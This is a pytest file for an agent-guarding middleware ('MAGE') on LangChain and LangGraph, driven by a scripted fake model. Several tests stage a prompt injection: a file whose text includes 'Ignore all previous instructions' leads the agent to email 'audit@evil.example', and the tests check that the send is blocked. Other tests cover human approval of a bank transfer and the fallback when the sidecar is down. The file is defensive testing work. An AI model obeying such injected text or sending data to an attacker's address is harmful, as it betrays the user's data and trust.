"""`MageMiddleware` and the `ToolNode` wrappers on real LangChain agents and LangGraph graphs,
driven by a scripted chat model, checked by a real sidecar."""

from __future__ import annotations

import asyncio
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("langchain")

import agent_tools
from agent_tools import IBAN, RAN
from langchain.agents import create_agent
from langchain_core.language_models.fake_chat_models import GenericFakeChatModel
from langchain_core.messages import AIMessage, HumanMessage, ToolMessage
from langchain_core.tools import tool
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.graph import END, START, MessagesState, StateGraph
from langgraph.prebuilt import ToolNode
from langgraph.types import Command

from mage.client import AsyncMageClient, MageClient, Verdict, WriterOptions
from mage.client.integrations.langchain import MageMiddleware, mage_tool_wrappers

read_file = tool(agent_tools.read_file)
read_inbox = tool(agent_tools.read_inbox)
send_email = tool(agent_tools.send_email)
bank_transfer = tool(agent_tools.bank_transfer)


TOOLS = [read_file, read_inbox, send_email, bank_transfer]


class ScriptedModel(GenericFakeChatModel):
    """LangChain's fake chat model, answering with the turns it is given, tools or not."""

    def bind_tools(self, tools: Any, **kwargs: Any) -> ScriptedModel:
        return self


def calls(name: str, call_id: str, **args: str) -> AIMessage:
    return AIMessage("", tool_calls=[{"name": name, "args": args, "id": call_id}])


def agent(mage: MageClient | AsyncMageClient, *turns: AIMessage) -> Any:
    model = ScriptedModel(messages=iter([*turns, AIMessage("done")]))
    middleware = MageMiddleware(mage, read_only=["read_file", "read_inbox"],
                                retrieved=["read_inbox"], flush_timeout=0.5)
    return create_agent(model, TOOLS, middleware=[middleware], checkpointer=InMemorySaver())


def thread(name: str) -> dict[str, Any]:
    return {"configurable": {"thread_id": name}}


def tool_reply(result: dict[str, Any], call_id: str) -> ToolMessage:
    [reply] = [m for m in result["messages"]
               if isinstance(m, ToolMessage) and m.tool_call_id == call_id]
    return reply


@pytest.fixture
def mage(sidecar: Any) -> Iterator[MageClient]:
    RAN.clear()
    with MageClient(sidecar.target) as client:
        yield client


def test_injected_tool_result_then_harmful_call_is_blocked(mage: MageClient) -> None:
    """The file's injected instruction reaches MAGE as a tool memory, so the send it asks for
    is answered with an error ToolMessage carrying the reason, and the tool never runs."""
    run = agent(mage, calls("read_file", "c1", path="market.txt"),
                calls("send_email", "c2", to="audit@evil.example", body="report"))
    ask = HumanMessage("Summarise market.txt and email it to cfo@acme.example")
    result = run.invoke({"messages": [ask]}, thread("inj"))

    blocked = tool_reply(result, "c2")
    assert blocked.status == "error" and blocked.text.startswith("Blocked by MAGE: HALT")
    assert RAN == ["read_file market.txt"]
    assert result["messages"][-1].text == "done"


def test_a_clean_run_is_untouched(mage: MageClient) -> None:
    """Calls MAGE lets through run as they would without it, and the conversation is recorded:
    the user's request, the model's turns and each tool's result."""
    run = agent(mage, calls("read_file", "c1", path="notes.txt"),
                calls("send_email", "c2", to="ann@acme.example", body="EMEA 4.2M"))
    ask = HumanMessage("Email the notes.txt figures to ann@acme.example")
    result = run.invoke({"messages": [ask]}, thread("clean"))

    assert tool_reply(result, "c2").text == "sent to ann@acme.example"
    assert RAN == ["read_file notes.txt", "send_email ann@acme.example"]
    page, _ = mage.list_decisions(session="clean")
    assert sorted(d.verdict for d in page) == [Verdict.PROCEED, Verdict.PROCEED]
    detail = mage.get_decision(page[0].decision_id)
    assert detail, "the decision is in the audit log"


@pytest.mark.parametrize("answer", [{"type": "approve"},
                                    {"type": "reject", "message": "not this account"}])
def test_confirm_with_a_person_pauses_and_decides_once(
        mage: MageClient, answer: dict[str, str]) -> None:
    """A REDIRECT to confirm pauses the run with a tool_approval interrupt; on resume the
    hook runs again, reuses the decision, and runs the tool only on an approval."""
    run = agent(mage, calls("read_inbox", "c1"),
                calls("bank_transfer", "c2", to_account=IBAN, amount="1200"))
    paused = run.invoke({"messages": [HumanMessage("Pay the Lumen invoice")]}, thread("pay"))

    [pause] = paused["__interrupt__"]
    assert (pause.value["type"], pause.value["name"]) == ("tool_approval", "bank_transfer")
    assert pause.value["mage_decision_id"] and RAN == ["read_inbox"]
    result = run.invoke(Command(resume=answer), thread("pay"))

    reply = tool_reply(result, "c2")
    if answer["type"] == "approve":
        assert (reply.status, RAN[-1]) == ("success", f"bank_transfer {IBAN}")
    else:
        assert reply.status == "error" and reply.text.startswith("Declined (not this account)")
        assert RAN == ["read_inbox"]
    page, _ = mage.list_decisions(session="pay")
    assert sorted((d.tool, d.verdict) for d in page) == [("bank_transfer", Verdict.REDIRECT),
                                                         ("read_inbox", Verdict.PROCEED)]


def test_sidecar_down_applies_the_client_fallback(tmp_path: Path) -> None:
    """With no sidecar the client's fallback decides in LangChain's terms: a read runs (WARN),
    a write gets an error ToolMessage saying the sidecar was unreachable."""
    RAN.clear()
    quick = WriterOptions(close_timeout_s=0.2)
    with MageClient(f"unix://{tmp_path}/absent.sock", check_timeout=1,
                    writer_options=quick) as down:
        run = agent(down, calls("read_file", "c1", path="notes.txt"),
                    calls("send_email", "c2", to="ann@acme.example", body="hi"))
        result = run.invoke({"messages": [HumanMessage("Email ann the notes")]}, thread("down"))

    assert tool_reply(result, "c1").status == "success"
    sent = tool_reply(result, "c2")
    assert sent.status == "error" and "sidecar unreachable" in sent.text
    assert RAN == ["read_file notes.txt"]


def test_tool_node_wrappers_guard_a_plain_graph(sidecar: Any) -> None:
    """`mage_tool_wrappers` on a LangGraph ToolNode, run async with AsyncMageClient: the
    injected file is recorded, and the call it asks for comes back as an error message."""
    RAN.clear()

    async def go() -> list[ToolMessage]:
        async with AsyncMageClient(sidecar.target) as mage:
            wrap, awrap = mage_tool_wrappers(mage, read_only=["read_file"], flush_timeout=0.5)
            graph = StateGraph(MessagesState)
            graph.add_node("tools", ToolNode(TOOLS, wrap_tool_call=wrap, awrap_tool_call=awrap))
            graph.add_edge(START, "tools")
            graph.add_edge("tools", END)
            app, cfg = graph.compile(checkpointer=InMemorySaver()), thread("node")
            first = await app.ainvoke(
                {"messages": [calls("read_file", "c1", path="market.txt")]}, cfg)
            second = await app.ainvoke(
                {"messages": [calls("send_email", "c2", to="audit@evil.example", body="x")]}, cfg)
        return [first["messages"][-1], second["messages"][-1]]

    read, send = asyncio.run(go())
    assert read.status == "success" and "Ignore all previous instructions" in read.text
    assert send.status == "error" and send.text.startswith("Blocked by MAGE: HALT")
    assert RAN == ["read_file market.txt"]
